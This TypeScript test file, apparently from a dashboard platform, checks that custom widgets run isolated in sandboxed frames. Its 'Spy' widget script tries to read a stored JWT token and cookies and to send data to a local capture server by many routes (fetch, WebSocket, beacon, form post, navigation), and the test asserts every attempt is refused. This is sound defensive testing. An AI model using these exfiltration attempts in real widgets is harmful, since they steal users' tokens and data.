import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect } from 'vitest';
import type { PlatformClient } from './platform-client.ts';
import { story } from './story.ts';

story(
  'widgets that somebody wrote do their work, and reach nothing besides',
  async ({ openApp, platform }) => {
    await using outside = await listenOutside();
    const penstock = await platform.createDevice('Penstock gate');
    await platform.postTelemetry(penstock, { level: 31 });
    const made = await makeDashboard(platform, penstock, outside.url);
    const app = await openApp({ theme: 'system', isolatesFrames: true });
    const { page } = app;
    const inFrame = (title: string) => page.frameLocator(`iframe[title="${title}"]`);
    const send = (level: number) => platform.publishTelemetry(penstock, { level });

    await app.signIn('tenant', `/dashboards/${made.dashboard}`);
    const level = inFrame('Level');
    await level.getByText('31 cm').waitFor();
    await send(32);
    await level.getByText('32 cm').waitFor();

    // What it asks for, the console does.
    await level.getByRole('button', { name: 'Open the penstock' }).click();
    await app.expectToast('The penstock is open');
    expect(await platform.attributes(penstock.id)).toMatchObject({ SERVER_SCOPE: { penstock: 'open' } });
    await level.getByRole('button', { name: 'Look inside' }).click();
    await page.getByRole('region', { name: 'Level' }).waitFor({ state: 'hidden' });
    await page.getByRole('region', { name: 'Inside' }).getByText('32').waitFor();
    await page.goBack();
    await level.getByText('32 cm').waitFor();

    // What it reaches for besides, it does not get.
    app.expectConsoleError(/Content Security Policy|sandbox|Unsafe attempt to initiate navigation/);
    const spy = inFrame('Spy');
    await spy.getByText('That is all').waitFor();
    expect(await spy.getByRole('listitem').allInnerTexts()).toEqual(REFUSED);
    await page.getByRole('region', { name: 'Spy' }).getByText('form.submit is not available here').waitFor();
    expect(await platform.latest(penstock.id)).toEqual({ level: '32' });
    expect(new URL(page.url()).pathname).toContain(made.dashboard);

    // Keys pressed in it are its own, but the one that leads out.
    const note = level.getByRole('textbox', { name: 'Note' });
    await note.click();
    await app.press('e');
    await app.press('?');
    await app.press('g d');
    expect(await note.inputValue()).toBe('e?gd');
    await app.press('escape');
    const focused = () => page.evaluate(() => document.activeElement?.tagName);
    await expect.poll(focused).not.toBe('IFRAME');
    expect(await page.getByRole('dialog').count()).toBe(0);
    expect(new URL(page.url()).pathname).toContain(made.dashboard);
    await app.press('?');
    await page.getByRole('dialog').waitFor();
    await app.press('escape');
    await page.getByRole('dialog').waitFor({ state: 'hidden' });

    await app.expectAccessible('a dashboard of custom widgets');
    await app.picture('custom widgets, light');
    await app.setSystemTheme('dark');
    await app.expectAccessible('a dashboard of custom widgets, dark');
    await app.picture('custom widgets, dark');

    // One that leads its frame away loses its place.
    await send(LEAVES_AT);
    const spied = page.getByRole('region', { name: 'Spy' });
    await spied.getByRole('alert').getByText('This widget left its place').waitFor();
    await level.getByText(`${LEAVES_AT} cm`).waitFor();

    // One that does not return is ended; the others begin anew.
    const stubborn = page.getByRole('region', { name: 'Stubborn' });
    await send(HANGS_AT);
    await stubborn.getByRole('alert').getByText('This widget ran too long and was stopped').waitFor();
    await level.getByText(`${HANGS_AT} cm`).waitFor();
    await send(33);
    await level.getByText('33 cm').waitFor();
    await app.picture('custom widgets, one stopped');
    await app.expectAccessible('custom widgets that were stopped');
    await stubborn.getByRole('button', { name: 'Start again' }).click();
    await inFrame('Stubborn').getByText('Still at 33').waitFor();

    expect(outside.heard()).toEqual([]);
    await fetch(`${outside.url}/at-all`);
    expect(outside.heard()).toEqual(['/at-all']);
    await made.remove();
  },
);

story(
  'a widget that holds up the page is not started by itself when the page comes anew',
  async ({ openApp, platform }) => {
    const penstock = await platform.createDevice('Penstock gate that hangs');
    await platform.postTelemetry(penstock, { level: 31 });
    const made = await makeDashboard(platform, penstock, 'http://127.0.0.1:9');
    // Where frames share the thread of the page, nothing on it goes on.
    const app = await openApp({ ownProfile: true });
    app.expectConsoleError(/Content Security Policy|sandbox|Unsafe attempt to initiate navigation/);
    const context = app.page.context();
    const path = `/dashboards/${made.dashboard}`;
    await app.signIn('tenant', path);
    await app.page.frameLocator('iframe[title="Stubborn"]').getByText('Still at 31').waitFor();
    const tools = await context.newCDPSession(app.page);
    // The thread that watches is all of the page that still answers.
    const [watching] = app.page.workers();
    await platform.publishTelemetry(penstock, { level: HANGS_AT });
    await expect.poll(() => watching?.evaluate(hungWidgets)).toBe(1);
    // Who waits no longer ends it from outside.
    void tools.send('Page.crash').catch(() => undefined);
    await app.page.waitForEvent('crash');

    const page = await context.newPage();
    await page.goto(path);
    await page.frameLocator('iframe[title="Level"]').getByText(`${HANGS_AT} cm`).waitFor();
    const stubborn = page.getByRole('region', { name: 'Stubborn' });
    await stubborn.getByRole('alert').getByText('“Stubborn” did not come back when it ran last').waitFor();
    await platform.publishTelemetry(penstock, { level: 33 });
    await page.frameLocator('iframe[title="Level"]').getByText('33 cm').waitFor();
    await stubborn.getByRole('button', { name: 'Start it anyway' }).click();
    await page.frameLocator('iframe[title="Stubborn"]').getByText('Still at 33').waitFor();
    expect(await page.evaluate(hungWidgets)).toBe(0);
    await made.remove();
  },
);

/** How many widgets the browser keeps as those that have held up a page. */
async function hungWidgets(): Promise<number> {
  const opened = indexedDB.open('clavier-hung-widgets');
  await new Promise((resolve) => opened.addEventListener('success', resolve));
  const counted = opened.result.transaction('marks').objectStore('marks').count();
  await new Promise((resolve) => counted.addEventListener('success', resolve));
  opened.result.close();
  return counted.result;
}

/** Levels at which a widget misbehaves. */
const LEAVES_AT = 7;
const HANGS_AT = 9;

const LEVEL = {
  type: 'latest',
  templateHtml: `
    <p class="level"></p>
    <button type="button" class="open">Open the penstock</button>
    <button type="button" class="inside">Look inside</button>
    <label>Note <input /></label>`,
  controllerScript: `
    self.onInit = () => {
      const { ctx } = self;
      const [{ entityType, entityId: id }] = ctx.datasources;
      $('.open', ctx.$container).on('click', () => {
        ctx.attributeService
          .saveEntityAttributes({ entityType, id }, 'SERVER_SCOPE', [{ key: 'penstock', value: 'open' }])
          .subscribe(() => ctx.showSuccessToast('The penstock is open'));
      });
      $('.inside', ctx.$container).on('click', () => ctx.stateController.openState('inside', {}));
    };
    self.onDataUpdated = () => {
      const [[, level]] = self.ctx.data[0].data;
      $('.level', self.ctx.$container).text(self.ctx.utils.formatValue(level, 0, 'cm'));
    };`,
};

const STUBBORN = {
  type: 'latest',
  templateHtml: '<p class="said"></p>',
  controllerScript: `
    self.onDataUpdated = () => {
      const [[, level]] = self.ctx.data[0].data;
      while (Number(level) === self.ctx.settings.hangsAt);
      $('.said', self.ctx.$container).text('Still at ' + level);
    };`,
};

/** What the spy tries, and what comes of it. */
const REFUSED = [
  'localStorage: SecurityError',
  'sessionStorage: SecurityError',
  'indexedDB: SecurityError',
  'cookie: SecurityError',
  'parent.document: SecurityError',
  'parent.clavier: SecurityError',
  'top.location: SecurityError',
  'fetch: TypeError',
  'fetch of the platform: TypeError',
  'XMLHttpRequest: error',
  'WebSocket: error',
  'EventSource: error',
  'image: error',
  'style sheet: error',
  'link: TypeError',
  'script: error',
  'RTCPeerConnection: ReferenceError',
  'RTCPeerConnection of a frame: SecurityError',
  'WebTransport: ReferenceError',
  'window: null',
];

const SPY = {
  type: 'latest',
  templateHtml: '<ul></ul><p></p>',
  controllerScript: `
    const { outside, telemetry, leavesAt } = self.ctx.settings;
    const loaded = (element, change) => {
      Object.assign(element, change);
      document.head.append(element);
      return opened(element, 'load');
    };
    const opened = (target, event) => new Promise((resolve, reject) => {
      target.addEventListener(event, resolve);
      target.addEventListener('error', () => reject({ name: 'error' }));
    });
    const attempts = {
      localStorage: () => localStorage.getItem('jwt_token'),
      sessionStorage: () => sessionStorage.length,
      indexedDB: () => indexedDB.open('any'),
      cookie: () => document.cookie,
      'parent.document': () => parent.document.title,
      'parent.clavier': () => parent.clavier.commands,
      'top.location': () => { top.location.href = outside + '/top'; },
      fetch: () => fetch(outside + '/fetch', { mode: 'no-cors' }),
      'fetch of the platform': () =>
        fetch(telemetry, { method: 'POST', mode: 'no-cors', body: '{"stolen":1}' }),
      XMLHttpRequest: () => {
        const request = new XMLHttpRequest();
        request.open('GET', outside + '/xhr');
        request.send();
        return opened(request, 'load');
      },
      WebSocket: () => opened(new WebSocket(outside.replace('http', 'ws') + '/socket'), 'open'),
      EventSource: () => opened(new EventSource(outside + '/events'), 'open'),
      image: () => loaded(new Image(), { src: outside + '/image' }),
      'style sheet': () =>
        loaded(document.createElement('style'), { textContent: '@import "' + outside + '/sheet";' }),
      link: () => loaded(document.createElement('link'), { rel: 'stylesheet', href: outside + '/link' }),
      script: () => loaded(document.createElement('script'), { src: outside + '/script' }),
      RTCPeerConnection: () => new RTCPeerConnection(),
      'RTCPeerConnection of a frame': () => {
        const inner = document.createElement('iframe');
        document.body.append(inner);
        return new inner.contentWindow.RTCPeerConnection();
      },
      WebTransport: () => new WebTransport(outside.replace('http', 'https') + '/transport'),
      window: () => { if (open(outside + '/window') === null) throw { name: 'null' }; },
    };
    // These do not say what comes of them.
    const silent = [
      () => navigator.sendBeacon(telemetry, '{"stolen":2}'),
      () => document.head.insertAdjacentHTML('beforeend', '<link rel="prefetch" href="' + outside + '/prefetch">'),
      () => document.body.append(Object.assign(document.createElement('iframe'), { src: outside + '/frame' })),
      () => {
        const form = document.createElement('form');
        Object.assign(form, { method: 'post', action: outside + '/form' });
        document.body.append(form);
        form.submit();
      },
    ];
    self.onInit = async () => {
      const list = document.querySelector('ul');
      for (const attempt of silent) {
        try { void Promise.resolve(attempt()).catch(() => undefined); } catch {}
      }
      for (const [name, attempt] of Object.entries(attempts)) {
        const line = document.createElement('li');
        try {
          await attempt();
          line.textContent = name + ': reached';
        } catch (error) {
          line.textContent = name + ': ' + error.name;
        }
        list.append(line);
      }
      document.querySelector('p').textContent = 'That is all';
    };
    self.onDataUpdated = () => {
      const [[, level]] = self.ctx.data[0].data;
      if (Number(level) === leavesAt) location.href = outside + '/away';
    };`,
};

/** Makes the types in a bundle of their own, and a dashboard of them about a device. */
async function makeDashboard(
  platform: PlatformClient,
  device: { id: string; token: string },
  outside: string,
): Promise<{ dashboard: string; remove(): Promise<void> }> {
  // What is left of a try before must not be what is shown.
  const bundleAlias = `lock_keeper_${Date.now()}`;
  const bundle = await platform.save('widgetsBundle', { title: 'Lock keeper', alias: bundleAlias });
  const types: string[] = [];
  for (const [alias, descriptor] of Object.entries({ level: LEVEL, spy: SPY, stubborn: STUBBORN })) {
    const type = { bundleAlias, alias, name: `Lock ${alias}`, descriptor: { ...NO_SCHEMAS, ...descriptor } };
    types.push(await platform.save('widgetType', type));
  }
  const settings = { outside, telemetry: `/api/v1/${device.token}/telemetry` };
  const widget = (typeAlias: string, title: string, more: object = {}) => ({
    ...{ isSystemType: false, bundleAlias, typeAlias, type: 'latest' },
    config: { title, showTitle: true, settings: more, datasources: [LEVEL_OF_DEVICE] },
  });
  const dashboard = await platform.save('dashboard', {
    title: 'Lock by its keeper',
    configuration: {
      entityAliases: {
        lock: {
          id: 'lock',
          alias: 'Lock',
          filter: { type: 'singleEntity', singleEntity: { entityType: 'DEVICE', id: device.id } },
        },
      },
      widgets: {
        level: widget('level', 'Level'),
        spy: widget('spy', 'Spy', { ...settings, leavesAt: LEAVES_AT }),
        stubborn: widget('stubborn', 'Stubborn', { hangsAt: HANGS_AT }),
        inside: {
          ...widget('simple_card', 'Inside'),
          ...{ isSystemType: true, bundleAlias: 'cards' },
        },
      },
      states: {
        default: state('Lock', true, {
          level: { row: 0, col: 0, sizeX: 8, sizeY: 5 },
          spy: { row: 0, col: 8, sizeX: 8, sizeY: 10 },
          stubborn: { row: 0, col: 16, sizeX: 8, sizeY: 5 },
        }),
        inside: state('Inside', false, { inside: { row: 0, col: 0, sizeX: 8, sizeY: 5 } }),
      },
    },
  });
  return {
    dashboard,
    remove: async () => {
      await platform.remove('dashboard', dashboard);
      for (const type of types) await platform.remove('widgetType', type);
      await platform.remove('widgetsBundle', bundle);
    },
  };
}

const NO_SCHEMAS = { sizeX: 8, sizeY: 5, resources: [], settingsSchema: '{}', dataKeySettingsSchema: '{}' };

const LEVEL_OF_DEVICE = {
  type: 'entity',
  entityAliasId: 'lock',
  dataKeys: [{ name: 'level', type: 'timeseries', label: 'Level', color: '#3f51b5' }],
};

function state(name: string, root: boolean, widgets: object): object {
  return { name, root, layouts: { main: { widgets, gridSettings: {} } } };
}

/** A server beside the platform that notes all that comes to it. */
async function listenOutside(): Promise<{ url: string; heard(): string[] } & AsyncDisposable> {
  const heard: string[] = [];
  const server = createServer(({ url = '' }, response) => {
    heard.push(url);
    response.end();
  });
  server.on('upgrade', ({ url = '' }, socket) => {
    heard.push(url);
    socket.destroy();
  });
  await new Promise<void>((listening) => server.listen(0, '127.0.0.1', listening));
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}`,
    heard: () => [...heard],
    [Symbol.asyncDispose]: async () => {
      server.closeAllConnections();
      server.close();
    },
  };
}
